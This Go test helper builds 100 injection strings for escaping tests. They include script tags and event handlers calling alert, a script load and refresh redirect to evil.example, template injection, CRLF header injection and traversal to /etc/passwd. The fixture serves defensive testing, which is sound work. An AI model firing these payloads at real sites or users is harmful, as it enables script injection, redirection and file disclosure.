package testenv

// HostileTexts are 100 texts that would run, load, close or turn something around where escaping fails. What runs calls
// alert.
func HostileTexts() []string {
	attacks := []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`,
		`<svg/onload=alert(1)>`,
		`<svg><script>alert&#40;1)</script></svg>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<math><mi xlink:href="javascript:alert(1)">`,
		`<style>*{background:url(//evil.example)}</style>`, `<base href=//evil.example>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `JaVaScRiPt&colon;alert(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`//evil.example/x`, `https://evil.example/"onmouseover="alert(1)`, `http://a@evil.example/`, `<!--`, `]]><x>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`{{7*7}}${7*7}<%= 7*7 %>`, "\x00<\x00script>alert(1)</script>", "\u202e<script>\u2066",
		"\r\nSet-Cookie: a=b\r\n\r\n<b>", `../../../etc/passwd`,
	}
	breakouts := []string{"", `">`, `'>`,
		`</title></textarea></script></style></noscript></template></select></option></a></bdi></p>-->`}
	var all []string
	for _, b := range breakouts {
		for _, a := range attacks {
			all = append(all, b+a)
		}
	}
	return all
}
